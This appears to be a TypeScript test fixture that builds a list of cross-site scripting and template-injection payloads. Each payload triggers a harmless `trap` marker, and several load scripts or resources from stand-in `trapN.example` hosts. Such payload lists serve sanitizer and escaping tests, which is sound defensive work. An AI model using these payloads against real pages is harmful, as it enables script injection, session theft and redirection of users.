/** Texts that would run in a page which took them for markup, a template, an address or a handler; each would call `trap`. */

/** `n` says which of them it was. */
const kinds: ((n: number) => string)[] = [
  (n) => `<script>trap(${n})</script>`,
  (n) => `<img src=x onerror=trap(${n})>`,
  (n) => `"><svg onload=trap(${n})>`,
  (n) => `'"--></style></title></textarea></script><script>trap(${n})</script>`,
  (n) => `<details open ontoggle=trap(${n})>x`,
  (n) => `<input autofocus onfocus=trap(${n})>`,
  (n) => `<iframe srcdoc="<script>parent.trap(${n})</script>"></iframe>`,
  (n) => `<a href="javascript:trap(${n})">press</a>`,
  (n) => `javascript:trap(${n})`,
  (n) => `data:text/html,<script>parent.trap(${n})</script>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=trap(${n})>`,
  (n) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=trap(${n}) src>">`,
  (n) => `<svg><animate onbegin=trap(${n}) attributeName=x dur=1s>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=trap(${n})>">`,
  (n) => `{{constructor.constructor('trap(${n})')()}}`,
  (n) => `\${trap(${n})} #{trap(${n})} <%= trap(${n}) %>`,
  (n) => `$t(trap${n}) {{trap${n}, html}}`,
  (n) => `" onmouseover="trap(${n})" autofocus onfocus="trap(${n})" x="`,
  (n) => `' style='animation:x' onanimationstart='trap(${n})`,
  (n) => `</script><script src=//trap${n}.example></script>`,
  (n) => `<img src=//trap${n}.example/p.png><link rel=stylesheet href=//trap${n}.example>`,
  (n) => `<style>@import'//trap${n}.example/x.css';*{background:url(//trap${n}.example/y)}</style>`,
  (n) => `<base href=//trap${n}.example/><meta http-equiv=refresh content="0;url=//trap${n}.example">`,
  (n) => `<object data="data:text/html,<script>parent.trap(${n})</script>"></object>`,
  (n) => `\u202e<ſcript>trap(${n})</ſcript>＜script＞trap(${n})＜/script＞`,
  (n) => `__proto__[innerHTML]=<img src=x onerror=trap(${n})>`,
];

export const MARKUP: readonly string[] = kinds.map((kind, n) => kind(n));
